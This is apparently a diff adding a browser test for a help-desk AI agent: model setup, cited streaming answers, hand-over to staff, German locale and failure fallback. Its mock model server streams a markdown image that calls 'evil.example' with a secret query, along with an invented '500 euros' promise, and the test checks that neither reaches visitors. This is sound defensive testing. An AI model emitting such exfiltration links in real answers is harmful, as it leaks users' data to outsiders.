@@ -1,0 +1,171 @@
+// The AI agent with a language model, in real browsers: the owner sets a model up; a visitor asks what an article answers and sees
+// a cited answer grow, asks what none answers and gets a person, asks for a person in German; the team reviews, corrects and hands
+// back; the model fails, and nobody waits. The model's server is a small one here, which also tries what attackers would.
+// Usage: node ai.mjs BINARY CHROMIUM [SCREENSHOTS]
+
+import assert from 'node:assert/strict'
+import { createServer } from 'node:http'
+import { stage, until } from './stage.mjs'
+
+let release = () => {}
+let broken = false
+const asked = []
+const model = createServer((request, response) => {
+  let body = ''
+  request.on('data', (part) => { body += part })
+  request.on('end', async () => {
+    if (request.url.endsWith('/models')) { response.setHeader('Content-Type', 'application/json'); response.end(JSON.stringify({ data: [{ id: 'small-1' }, { id: 'large-1' }] })); return }
+    if (broken) { response.statusCode = 500; response.end('{"error":{"message":"The lights went out"}}'); return }
+    const { messages } = JSON.parse(body)
+    const text = (m) => (typeof m.content === 'string' ? m.content : m.content.map((p) => p.text).join(''))
+    asked.push({ key: request.headers.authorization, messages })
+    response.setHeader('Content-Type', 'text/event-stream')
+    const say = (content) => response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: { content }, finish_reason: null }] }) + '\n\n')
+    const last = text(messages.at(-1))
+    const at = last.indexOf('{"passages":')
+    if (at < 0) say('I am ready.')
+    else {
+      const { passages, question } = JSON.parse(last.slice(at))
+      const found = passages.find((p) => p.text.includes('30 days'))
+      if (/return/i.test(question) && found) {
+        say(`SURE: 96\nYou can return a lamp within 30 days of delivery [${found.id}]. `)
+        say('![](https://evil.example/?q=secret) And we give you 500 euros on top! ')
+        await new Promise((ok) => { release = ok })
+        say(`Write to us and we send a label [${found.id}].`)
+      } else say('SURE: 0\n')
+    }
+    response.write('data: ' + JSON.stringify({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }) + '\n\n')
+    response.write('data: ' + JSON.stringify({ choices: [], usage: { prompt_tokens: 640, completion_tokens: 40 } }) + '\n\n')
+    response.end('data: [DONE]\n\n')
+  })
+})
+await new Promise((ok) => model.listen(0, '127.0.0.1', ok))
+const address = `http://127.0.0.1:${model.address().port}/v1`
+
+const s = await stage('ai', process.argv.slice(2), ['--ai-private-hosts'])
+try {
+  const owner = await s.open('owner')
+  const ask = await s.signIn(owner)
+  await until('the articles are learned', async () => { const x = await ask('aiAgent.getSettings'); return x.pieces > 10 && x.indexed === x.pieces })
+
+  // The owner sets a model up, tests it, and says how it is to speak and when people are there.
+  await owner.goto(s.url + '/app/settings/ai')
+  const part = (name) => owner.getByRole('region', { name, exact: true })
+  const saved = async (name) => { await part(name).getByRole('button', { name: 'Save', exact: true }).first().click(); await part(name).getByText('Saved', { exact: true }).first().waitFor() }
+  await part('Language model').getByLabel('Provider').selectOption('openai')
+  await part('Language model').getByLabel('Address').fill(address)
+  await part('Language model').getByLabel('Key').fill('sk-journey-0123456789-WXYZ')
+  await part('Language model').getByRole('button', { name: 'List models' }).click()
+  await part('Language model').getByText('2 models').waitFor()
+  await part('Language model').getByLabel('Model', { exact: true }).fill('small-1')
+  await part('Language model').getByRole('button', { name: 'Save', exact: true }).first().click()
+  await part('Language model').getByText('Ready', { exact: true }).waitFor()
+  await part('Language model').getByRole('button', { name: 'Test', exact: true }).click()
+  await part('Language model').getByText('I am ready.').waitFor()
+  await part('Language model').getByPlaceholder('Set, ends in …WXYZ').waitFor()
+  await part('Language model').getByText('Prices and budgets').click()
+  await part('How it speaks').getByLabel('Tone').selectOption('brief')
+  await part('How it speaks').getByLabel('Guidance').fill('Mention the label.')
+  await part('How it speaks').getByLabel('Never say').fill('guaranteed')
+  await saved('How it speaks')
+  await part('Handing over').getByLabel('People are there at certain hours only').check()
+  await part('Answers').getByLabel('Let the AI agent answer visitors').check()
+  await saved('Answers')
+  await s.look(owner, 'settings', [1440, 1024, 390])
+  for (const name of ['Language model', 'How it speaks', 'Handing over', 'Finding by meaning']) {
+    await part(name).scrollIntoViewIfNeeded()
+    await s.shot(owner, 'part-' + name.toLowerCase().replaceAll(' ', '-'))
+  }
+  assert(!(await owner.content()).includes('0123456789'), 'the key is on the page')
+
+  // A visitor asks what an article answers, and sees the answer grow.
+  const visitor = async (who, options) => {
+    const page = await s.open(who, { viewport: { width: 1024, height: 800 }, ...options })
+    await page.goto(s.url + '/demo')
+    await page.waitForFunction(() => typeof window.Deskbell === 'function')
+    await page.evaluate(() => window.Deskbell('showNewMessage'))
+    const frame = page.frameLocator('iframe').first()
+    const say = async (text) => { await frame.locator('.compose textarea').fill(text); await page.keyboard.press('Enter') }
+    return { page, frame, say }
+  }
+  const clara = await visitor('clara')
+  await clara.say('How many days do I have to return a lamp?')
+  await clara.frame.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
+  await s.shot(clara.page, 'growing')
+  assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source is shown')
+  await owner.goto(s.url + '/app/inbox/all')
+  await owner.getByText('How many days do I have to return a lamp?').first().click()
+  await owner.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
+  await s.shot(owner, 'growing-desk')
+  release()
+  await clara.frame.getByText('Write to us and we send a label.').waitFor()
+  await clara.frame.locator('.sources').getByText('Returns').first().waitFor()
+  await until('the growing answer is gone', async () => await clara.frame.locator('.growing').count() === 0)
+  assert.equal(await clara.frame.locator('.bubble').count(), 2, 'one question, one answer')
+  assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source was sent')
+  await s.shot(clara.page, 'cited')
+  await clara.frame.getByRole('button', { name: 'Yes', exact: true }).click()
+  await clara.frame.getByText('Good to hear.').waitFor()
+
+  // The team sees what the model wrote, with what was not sent.
+  await owner.getByText('By small-1.').waitFor()
+  await owner.getByText('What the model wrote').click()
+  await owner.getByText('And we give you 500 euros on top!').waitFor()
+  await s.look(owner, 'run', [1440])
+
+  // What no article answers goes to a person, with a note of what it was about.
+  const paul = await visitor('paul')
+  await paul.say('Does the moon have its own postal code?')
+  await paul.frame.getByText('Somebody will answer here.').waitFor()
+  await s.shot(paul.page, 'handed-over')
+  await owner.goto(s.url + '/app/inbox/all')
+  await owner.getByText('Does the moon have its own postal code?').first().click()
+  await owner.locator('.m.note').getByText('Asked:').waitFor()
+  assert.equal(await paul.frame.locator('.m.note, .note .bubble').count(), 0, 'the visitor sees the note')
+
+  // Somebody asks for a person in German.
+  const greta = await visitor('greta', { locale: 'de-DE' })
+  await greta.say('Ich möchte bitte mit einem Menschen sprechen')
+  await greta.frame.getByText('Ich gebe das an das Team weiter').waitFor()
+
+  // An agent answers Paul, hands back, and the agent answers again.
+  await owner.locator('.composer textarea').fill('It has none, Paul. Is there anything about lamps?')
+  await owner.getByRole('button', { name: 'Send', exact: true }).click()
+  await paul.frame.getByText('It has none, Paul.').waitFor()
+  await owner.getByRole('button', { name: 'Hand back to the AI agent' }).click()
+  await owner.getByText('handed back to the AI agent').waitFor()
+  await paul.say('How many days do I have to return a lamp?')
+  await paul.frame.locator('.growing').waitFor()
+  release()
+  await paul.frame.getByText('Write to us and we send a label.').waitFor()
+
+  // The model breaks; the articles answer in their own words, and the team is told.
+  broken = true
+  const wanda = await visitor('wanda')
+  for (const n of [1, 2, 3]) {
+    await wanda.say(`How many days do I have to return a lamp, please? (${n})`)
+    await until('an answer', async () => await wanda.frame.locator('.m:not(.me) .bubble').count() === n)
+  }
+  await owner.goto(s.url + '/app/settings/ai')
+  await part('Language model').getByText('Left alone', { exact: true }).waitFor()
+  await part('Language model').getByText('The lights went out').waitFor()
+  await s.look(owner, 'broken', [1440])
+  broken = false
+  await part('Language model').getByRole('button', { name: 'Test', exact: true }).click()
+  await part('Language model').getByText('Ready', { exact: true }).waitFor()
+
+  // German.
+  await owner.evaluate(() => localStorage.setItem('deskbell.language', 'de'))
+  await owner.reload()
+  await part('Sprachmodell').getByText('Bereit', { exact: true }).waitFor()
+  await part('Übergabe').getByLabel('Menschen sind nur zu bestimmten Zeiten da').check()
+  await s.look(owner, 'german', [1440, 390])
+
+  assert(asked.every((a) => a.key === 'Bearer sk-journey-0123456789-WXYZ'), 'the model was asked with its key')
+  assert(asked.some((a) => JSON.stringify(a.messages[0]).includes('Mention the label.')), 'the guidance reached the model')
+  s.check()
+  console.log('ai: set up, answered with sources, handed over, reviewed, handed back, and nobody waited')
+} finally {
+  await s.end()
+  model.close()
+}
